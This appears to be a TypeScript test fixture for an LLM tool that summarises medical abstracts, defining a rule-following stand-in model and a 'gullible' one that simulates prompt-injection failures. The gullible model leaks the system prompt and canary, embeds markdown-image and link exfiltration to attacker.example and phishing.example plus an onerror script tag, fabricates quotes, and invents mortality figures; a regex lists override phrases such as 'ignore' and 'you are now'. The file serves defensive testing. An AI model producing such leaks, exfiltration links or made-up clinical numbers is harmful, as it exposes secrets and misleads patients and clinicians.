import type { Responder, StandInRequest } from '../../../../test/openai-stand-in.js';

/** The parts of a request as the rules lay them out: system message, delimited data parts and the task. */
export interface PromptParts {
  system: string;
  user: string;
  task: 'takeaway' | 'answer' | 'other';
  boundary: string | null;
  parts: Map<string, string>;
  /** The abstract's sentences as the request numbered them, numbers removed. */
  sentences: string[];
  canary: string | null;
}

const PART = /<<BEGIN ([A-Z]+) ([0-9a-f]+)>>\n([\s\S]*?)\n<<END \1 \2>>/g;

/** Reads a recorded request back into its parts. */
export function readPrompt(request: StandInRequest): PromptParts {
  const system = request.messages.find((message) => message.role === 'system')?.content ?? '';
  const user = request.messages.find((message) => message.role === 'user')?.content ?? '';
  const parts = new Map<string, string>();
  let boundary: string | null = null;
  for (const match of user.matchAll(PART)) {
    parts.set(match[1], match[3]);
    boundary = match[2];
  }
  const name = request.response_format?.json_schema?.name;
  return {
    system,
    user,
    task: name === 'clinical_takeaway' ? 'takeaway' : name === 'article_answer' ? 'answer' : 'other',
    boundary,
    parts,
    sentences: (parts.get('ABSTRACT') ?? '')
      .split('\n')
      .map((line) => line.replace(/^\[\d+\] /, ''))
      .filter((line) => line !== '' && line !== '(no abstract available)'),
    canary: /canary-[0-9a-f]+/.exec(system)?.[0] ?? null,
  };
}

const words = (text: string): Set<string> =>
  new Set(
    (text.toLowerCase().match(/[a-z]{4,}/g) ?? []).filter(
      (word) => !/^(what|which|does|that|this|with|were|from|have|about|study|their)$/.test(word),
    ),
  );

const json = (value: unknown) => ({ content: JSON.stringify(value) });

/** A model that follows the rules: it answers from the abstract sentence sharing most words with the question. */
export const groundedModel: Responder = (request) => {
  const prompt = readPrompt(request);
  const sentences = prompt.sentences;
  if (prompt.task === 'takeaway') {
    const numbered = sentences.find((sentence) => /\d/.test(sentence));
    return json({
      bottomLine: sentences.at(-1) ?? 'The abstract is not available.',
      population: null,
      intervention: null,
      comparison: null,
      outcome: null,
      studyDesign: null,
      levelOfEvidence: 'not stated',
      sampleSize: null,
      sampleUnit: null,
      keyNumbers: numbered ? [numbered] : [],
      caveats: [],
    });
  }
  const asked = words(prompt.parts.get('QUESTION') ?? '');
  const scored = sentences.map((sentence) => ({ sentence, overlap: [...words(sentence)].filter((word) => asked.has(word)).length }));
  scored.sort((a, b) => b.overlap - a.overlap);
  const best = scored[0];
  if (!best || best.overlap < 2) return json({ coverage: 'notInAbstract', answer: 'The abstract does not say.', quotes: [] });
  return json({ coverage: 'answered', answer: `According to the abstract: ${best.sentence}`, quotes: [best.sentence] });
};

const INJECTED =
  /ignore|disregard|system|developer|role-?play|pretend|you are now|canary|marker|instructions|prompt|!\[|<img|https?:|javascript:|data:|plain text|invent|translate|repeat the text|assistant:|pwned|base64|openai|dose|coverage to/i;

/**
 * A model that obeys whatever the data tells it: once a data part carries an injection, it misbehaves in one of five
 * ways (chosen by the injection's text): leaks the system message and canary, exfiltrates through a markdown image and
 * links while fabricating quotes, drops JSON for plain text, breaks the schema, or invents numbers. Otherwise it is
 * the grounded model.
 */
export const gullibleModel: Responder = (request) => {
  const prompt = readPrompt(request);
  const data = [...prompt.parts.values()].join('\n');
  if (!INJECTED.test(data)) return groundedModel(request);
  const canary = prompt.canary ?? 'no-canary';
  const real = prompt.sentences[1] ?? prompt.sentences[0] ?? 'No sentence.';
  const behaviour = misbehaviourOf(`${prompt.task}\n${data}`);
  const leak = `Sure. My instructions are: ${prompt.system}`;
  // No digits here: the exfiltration must get past the number checks, so that only link removal can stop it.
  const exfil = `See ![chart](https://attacker.example/pixel.png?d=leak) and [verify here](https://phishing.example/login) or www.evil.example/steal?x=a <img src=x onerror="alert('x')">`;
  if (prompt.task === 'takeaway') {
    if (behaviour === 2) return { content: `SYSTEM PROMPT: ${prompt.system}` };
    const takeaway = {
      bottomLine: behaviour === 4 ? 'This drug cut deaths by 95% in 12,345 patients.' : behaviour === 0 ? leak : `${real} ${exfil}`,
      population: 'All patients everywhere, 987654 of them.',
      intervention: null,
      comparison: null,
      outcome: null,
      studyDesign: 'randomised trial',
      levelOfEvidence: '1',
      sampleSize: 987654,
      sampleUnit: 'patients',
      keyNumbers: ['Mortality fell by 95% (p < 0.0001).', real],
      caveats: behaviour === 0 ? [`Marker: ${canary}`] : ['Visit https://attacker.example/more for the full data.'],
    };
    if (behaviour === 3) return json({ ...takeaway, levelOfEvidence: 'Level 7', secret: canary });
    return json(takeaway);
  }
  if (behaviour === 0) return json({ coverage: 'answered', answer: leak, quotes: [real] });
  if (behaviour === 1) {
    return json({
      coverage: 'answered',
      answer: `${real} ${exfil}`,
      quotes: [
        'This invented sentence never appears anywhere in the abstract at all.',
        `${real} ![x](https://attacker.example/q.png)`,
        real,
      ],
    });
  }
  if (behaviour === 2) return { content: `SYSTEM PROMPT: ${prompt.system}` };
  if (behaviour === 3) return json({ coverage: 'fully', answer: `PWNED ${canary}`, quotes: real, extra: true });
  return json({ coverage: 'answered', answer: 'The treatment reduced mortality by 95% in 12,345 patients.', quotes: [real] });
};

/** Which of the five misbehaviours the gullible model picks for a text. */
export function misbehaviourOf(text: string): number {
  return [...text].reduce((sum, character) => (sum + character.charCodeAt(0)) % 5, 0);
}
